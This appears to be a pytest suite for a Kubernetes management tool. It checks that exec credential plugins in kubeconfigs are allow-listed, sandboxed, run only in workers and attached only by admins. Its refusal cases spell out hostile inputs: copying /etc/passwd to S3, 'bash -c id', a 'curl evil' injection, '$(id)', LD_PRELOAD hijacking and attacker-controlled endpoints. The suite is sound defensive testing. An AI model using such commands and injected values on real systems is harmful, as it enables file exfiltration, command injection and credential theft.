"""Exec credential plugins: found by name in admin-configured directories, args and env allow-listed, run with a
minimal environment, only in workers, attached only by admins."""

from __future__ import annotations

import json
import os
import stat

import pytest
import yaml

from foundation.models import AuditEvent
from inventory import access, execplugins, kube, kubeconfigs, onboarding, services
from inventory.models import AttachDraft, Cluster

AWS_ARGS = ["eks", "get-token", "--cluster-name", "prod", "--region", "eu-west-1", "--output", "json"]


def exec_kubeconfig(server: str = "https://api.example.com:6443", **exec_spec) -> str:
    spec = {"apiVersion": "client.authentication.k8s.io/v1", "command": "aws", "args": AWS_ARGS, **exec_spec}
    return yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "eks",
        "clusters": [{"name": "c", "cluster": {"server": server}}],
        "users": [{"name": "u", "user": {"exec": spec}}],
        "contexts": [{"name": "eks", "context": {"cluster": "c", "user": "u"}}],
    })


def extract(text: str) -> dict:
    return kubeconfigs.extract_context(kubeconfigs.parse_kubeconfig(text), "eks")


@pytest.fixture
def plugin_dir(settings, tmp_path):
    """An allowed directory holding an `aws` that prints a token and records its argv and environment."""
    bin_dir = tmp_path / "plugins"
    bin_dir.mkdir()
    record = tmp_path / "record.json"
    script = bin_dir / "aws"
    token = os.environ.get("FLEETWEB_TEST_PLUGIN_TOKEN", "plugin-token")
    script.write_text(
        "#!/usr/bin/python3\n"
        "import json, os, sys\n"
        f"json.dump({{'argv': sys.argv[1:], 'env': dict(os.environ)}}, open({str(record)!r}, 'w'))\n"
        "print(json.dumps({'apiVersion': 'client.authentication.k8s.io/v1', 'kind': 'ExecCredential',\n"
        f"                  'status': {{'token': open({str(tmp_path / 'token')!r}).read().strip()}}}}))\n")
    (tmp_path / "token").write_text(token)
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    settings.FLEETWEB_EXEC_PLUGIN_DIRS = [str(bin_dir)]
    settings.FLEETWEB_EXEC_PLUGIN_HOME = str(tmp_path)
    execplugins._cache.clear()
    execplugins.allow_in_this_process()
    yield {"dir": bin_dir, "record": record, "token_file": tmp_path / "token"}
    execplugins.forbid_in_this_process()


@pytest.mark.parametrize(("spec", "message"), [
    ({"command": "/any/path/aws"}, "at the path '/any/path/aws': give only its name"),
    ({"command": "./aws"}, "give only its name"),
    ({"command": "bash", "args": ["-c", "id"]}, "exec plugin 'bash', which is not allowed here"),
    ({"args": ["s3", "cp", "/etc/passwd", "s3://x"]}, "must be run as 'aws eks get-token …'"),
    ({"args": ["eks", "get-token", "--endpoint-url", "https://evil.example"]}, "may not be given the argument"),
    ({"args": ["eks", "get-token", "--cluster-name", "prod; curl evil"]}, "value of '--cluster-name'"),
    ({"args": ["eks", "get-token", "--cluster-name"]}, "'--cluster-name' of 'aws' has no value"),
    ({"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}, "may not be given the environment variable 'LD_PRELOAD'"),
    ({"env": [{"name": "PATH", "value": "/tmp"}]}, "environment variable 'PATH'"),
    ({"env": [{"name": "AWS_PROFILE", "value": "$(id)"}]}, "value of 'AWS_PROFILE'"),
])
def test_exec_sections_outside_the_allow_list_are_refused(plugin_dir, spec, message):
    with pytest.raises(kubeconfigs.KubeconfigError, match=message):
        extract(exec_kubeconfig(**spec))


def test_no_plugin_runs_without_configured_directories(settings):
    settings.FLEETWEB_EXEC_PLUGIN_DIRS = []
    with pytest.raises(kubeconfigs.KubeconfigError, match="runs no exec plugins"):
        extract(exec_kubeconfig())


def test_a_plugin_not_in_the_allowed_names_is_refused_even_when_installed(plugin_dir, settings):
    settings.FLEETWEB_ALLOWED_EXEC_PLUGINS = ["kubelogin"]
    with pytest.raises(kubeconfigs.KubeconfigError, match="'aws', which is not allowed here"):
        extract(exec_kubeconfig())


def test_a_genuine_plugin_runs_with_its_allowed_args_and_a_minimal_environment(plugin_dir, monkeypatch, settings):
    settings.FLEETWEB_EXEC_PLUGIN_IDENTITIES = ["aws:AWS_PROFILE=prod-reader"]
    monkeypatch.setenv("DATABASE_URL", "postgresql://secret@db/fleetweb")
    monkeypatch.setenv("FLEETWEB_ENCRYPTION_KEYS", "secret-key")
    env = [{"name": "AWS_PROFILE", "value": "prod-reader"}]
    single = extract(exec_kubeconfig(env=env))
    user = single["users"][0]["user"]
    assert user["exec"]["command"] == "aws"
    got = execplugins.credential(user["exec"], server="https://api.example.com:6443")
    assert got == {"token": "plugin-token"}
    run = json.loads(plugin_dir["record"].read_text())
    assert run["argv"] == AWS_ARGS
    assert set(run["env"]) <= {"PATH", "HOME", "LANG", "KUBERNETES_EXEC_INFO", "AWS_PROFILE", "PWD", "LC_CTYPE"}
    assert run["env"]["PATH"] == str(plugin_dir["dir"])
    assert run["env"]["AWS_PROFILE"] == "prod-reader"
    assert json.loads(run["env"]["KUBERNETES_EXEC_INFO"])["spec"]["cluster"]["server"] == "https://api.example.com:6443"
    assert not any("secret" in value for value in run["env"].values())


def test_plugins_do_not_run_in_the_web_process(plugin_dir):
    execplugins.forbid_in_this_process()
    spec = extract(exec_kubeconfig())["users"][0]["user"]["exec"]
    with pytest.raises(execplugins.ExecPluginError, match="run only in Fleetweb's workers"):
        execplugins.credential(spec, server="https://api.example.com:6443")
    assert not plugin_dir["record"].exists()
    with pytest.raises(kube.KubeError, match="run only in Fleetweb's workers"):
        kube.connect(kubeconfigs.credentials_from_kubeconfig(extract(exec_kubeconfig())))


def test_a_failing_plugin_says_so_without_echoing_its_output(plugin_dir):
    script = plugin_dir["dir"] / "aws"
    script.write_text("#!/bin/sh\necho 'SECRET-IN-STDERR' >&2\necho 'SECRET-IN-STDOUT'\nexit 3\n")
    spec = extract(exec_kubeconfig())["users"][0]["user"]["exec"]
    with pytest.raises(execplugins.ExecPluginError) as err:
        execplugins.credential(spec, server="https://api.example.com:6443")
    assert "exit status 3" in str(err.value)
    assert "SECRET" not in str(err.value)


def _attach_exec(user):
    single = extract(exec_kubeconfig())
    credentials = kubeconfigs.credentials_from_kubeconfig(single)
    return services.attach_cluster(name="eks-prod", credentials=credentials, user=user)


def test_operator_cannot_attach_an_exec_kubeconfig(plugin_dir, operator):
    with pytest.raises(services.AttachError, match="Only admins may attach a kubeconfig that runs an exec plugin"):
        _attach_exec(operator)
    assert not Cluster.objects.exists()


def test_operator_cannot_attach_an_exec_kubeconfig_through_the_api(plugin_dir, operator, api_as):
    response = api_as(operator).post("/api/v1/clusters/", {"name": "eks-prod", "kubeconfig": exec_kubeconfig()},
                                     format="json")
    assert response.status_code == 403, response.content
    assert "exec plugin" in response.json()["detail"]
    assert not Cluster.objects.exists()


def test_operator_cannot_attach_an_exec_kubeconfig_through_the_page(plugin_dir, operator, client):
    client.force_login(operator)
    response = client.post("/clusters/attach/", {"method": "kubeconfig", "kubeconfig": exec_kubeconfig(),
                                                 "contexts": ["eks"], "meta-environment": "dev",
                                                 "meta-sync_interval": "60"})
    assert response.status_code == 400
    assert b"Only admins may attach a kubeconfig that runs an exec plugin" in response.content
    assert not Cluster.objects.exists()


def test_admin_attaches_an_exec_kubeconfig(plugin_dir, admin_user, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks():
        cluster = _attach_exec(admin_user)
    assert cluster.auth_method == "kubeconfig"


@pytest.mark.e2e
def test_an_exec_plugin_token_reaches_a_real_member(plugin_dir, member):
    """The plugin's token is what the member's API server authenticates."""
    creds = member.token_credentials()
    plugin_dir["token_file"].write_text(creds["token"])
    kubeconfig = yaml.safe_load(exec_kubeconfig(server=creds["server"]))
    kubeconfig["clusters"][0]["cluster"]["certificate-authority-data"] = __import__("base64").b64encode(
        creds["ca_data"].encode()).decode()
    single = extract(yaml.safe_dump(kubeconfig))
    report = access.test_connection(kubeconfigs.credentials_from_kubeconfig(single))
    assert report.ok, [c.detail for c in report.checks if not c.ok]
    assert report.version.startswith("v1.")
    assert json.loads(plugin_dir["record"].read_text())["argv"] == AWS_ARGS


# Fleetweb's own identity is used only for clusters an admin attached (issue 25, class 1).

def test_operator_cannot_test_the_connection_of_an_exec_kubeconfig(plugin_dir, operator, client):
    """The connection test would run the plugin in a worker with Fleetweb's host identity: refused before anything is
    queued or run (what was pasted is held encrypted, as any paste is, for the next submit)."""
    client.force_login(operator)
    response = client.post("/clusters/attach/test/", {"method": "kubeconfig", "kubeconfig": exec_kubeconfig(),
                                                      "contexts": ["eks"], "meta-environment": "dev"})
    assert response.status_code == 403
    assert b"Only admins may attach a kubeconfig that runs an exec plugin" in response.content
    assert AttachDraft.objects.get().test_state == ""
    assert not AuditEvent.objects.filter(action="cluster.test_connection").exists()
    assert not plugin_dir["record"].exists()


def test_operator_cannot_have_a_worker_run_a_plugin_from_a_draft(plugin_dir, operator, admin_user):
    """A draft that holds a plugin (made before a role was taken away, or by any other door) still runs nothing in
    the worker unless its creator is an admin."""
    source = {"kubeconfig": kubeconfigs.parse_kubeconfig(exec_kubeconfig())}
    draft = onboarding.save_draft(user=admin_user, method="kubeconfig", source=source)
    AttachDraft.objects.filter(pk=draft.pk).update(created_by=operator, test_state="queued",
                                                   test_request={"contexts": ["eks"], "insecure": False})
    assert onboarding.run_test(str(draft.pk)) == "done"
    draft.refresh_from_db()
    assert [r["ok"] for r in draft.test_results] == [False]
    assert "Only admins" in draft.test_results[0]["checks"][0]["detail"]
    assert not plugin_dir["record"].exists()
    with pytest.raises(onboarding.ServiceError, match="Only admins") as err:
        onboarding.request_test(draft, contexts=["eks"], insecure=False, user=operator)
    assert err.value.status == 403
    assert AttachDraft.objects.get(pk=draft.pk).test_state == "done", "nothing was queued again"


def test_operator_cannot_replace_credentials_with_an_exec_kubeconfig(plugin_dir, operator, admin_user,
                                                                     django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks():
        cluster = services.attach_cluster(name="plain", user=admin_user, credentials={
            "method": "token", "server": "https://api.example.com:6443", "ca_data": "", "token": "t"})
    credentials = kubeconfigs.credentials_from_kubeconfig(extract(exec_kubeconfig()))
    with pytest.raises(services.AttachError, match="Only admins may attach a kubeconfig that runs an exec plugin"):
        services.update_cluster(cluster, user=operator, credentials=credentials)
    cluster.refresh_from_db()
    assert cluster.auth_method == "token"
    assert not AuditEvent.objects.filter(action="cluster.update").exists()


@pytest.mark.parametrize(("args", "env", "listed", "refused"), [
    (["--role-arn", "arn:aws:iam::111122223333:role/other-team-admin"], [], [], "names a role"),
    (["--role-arn=arn:aws:iam::111122223333:role/other-team-admin"], [],
     ["aws:--role-arn=arn:aws:iam::111122223333:role/fleetweb-reader"], "names a role"),
    (["--profile", "prod-admin"], [], [], "names a profile"),
    ([], [{"name": "AWS_PROFILE", "value": "prod-admin"}], ["aws:AWS_PROFILE=prod-reader"], "names a profile"),
    (["--role-arn", "arn:aws:iam::111122223333:role/fleetweb-reader"], [],
     ["aws:--role-arn=arn:aws:iam::111122223333:role/fleetweb-reader"], None),
    ([], [{"name": "AWS_PROFILE", "value": "prod-reader"}], ["aws:AWS_PROFILE=prod-reader"], None),
])
def test_identity_arguments_come_from_the_admins_list(plugin_dir, settings, args, env, listed, refused):
    settings.FLEETWEB_EXEC_PLUGIN_IDENTITIES = listed
    text = exec_kubeconfig(args=AWS_ARGS + args, env=env)
    if refused:
        with pytest.raises(kubeconfigs.KubeconfigError, match=f"{refused} that is not in FLEETWEB_EXEC_PLUGIN_IDENT"):
            extract(text)
    else:
        assert extract(text)["users"][0]["user"]["exec"]["command"] == "aws"


def test_kubelogin_authority_and_tenant_come_from_the_admins_list(settings, tmp_path):
    settings.FLEETWEB_EXEC_PLUGIN_DIRS = [str(tmp_path)]
    (tmp_path / "kubelogin").write_text("#!/bin/sh\n")
    (tmp_path / "kubelogin").chmod(0o755)
    tenant = "11111111-2222-3333-4444-555555555555"
    spec = {"command": "kubelogin", "args": ["get-token", "--login", "msi", "--authority-host",
                                            "https://login.attacker.example/", "--tenant-id", tenant]}
    settings.FLEETWEB_EXEC_PLUGIN_IDENTITIES = [f"kubelogin:--tenant-id={tenant}"]
    with pytest.raises(execplugins.ExecPluginError, match="'--authority-host' of 'kubelogin' names a authority-host"):
        execplugins.check(spec)
    settings.FLEETWEB_EXEC_PLUGIN_IDENTITIES += ["kubelogin:--authority-host=https://login.attacker.example/"]
    assert execplugins.check(spec)[0] == "kubelogin"


def _oidc_kubeconfig(issuer: str) -> str:
    return yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "oidc",
        "clusters": [{"name": "c", "cluster": {"server": "https://api.example.com:6443"}}],
        "users": [{"name": "u", "user": {"auth-provider": {"name": "oidc", "config": {
            "idp-issuer-url": issuer, "client-id": "k8s", "refresh-token": "REFRESH-SECRET",
            "id-token": "expired"}}}}],
        "contexts": [{"name": "oidc", "context": {"cluster": "c", "user": "u"}}],
    })


def test_an_oidc_auth_provider_is_refused_and_its_issuer_never_dialled(http_receiver, settings):
    """The client library would fetch discovery and post the refresh token to any token_endpoint, past the
    outbound policy; Fleetweb refuses auth providers at parse and, for anything stored before, at connect."""
    settings.FLEETWEB_ALLOWED_NETWORKS = ["127.0.0.0/8"]
    issuer = http_receiver.url("/issuer")
    with pytest.raises(kubeconfigs.KubeconfigError, match="auth provider 'oidc', which Fleetweb does not support"):
        kubeconfigs.extract_context(kubeconfigs.parse_kubeconfig(_oidc_kubeconfig(issuer)), "oidc")
    stored = yaml.safe_load(_oidc_kubeconfig(issuer))
    stored["current-context"] = "oidc"
    credentials = {"method": "kubeconfig", "kubeconfig": stored, "context": "oidc"}
    with pytest.raises(kube.KubeError, match="auth provider") as err:
        kube.connect(credentials)
    assert err.value.kind == "config"
    assert "REFRESH-SECRET" not in str(err.value)
    assert http_receiver.received == []
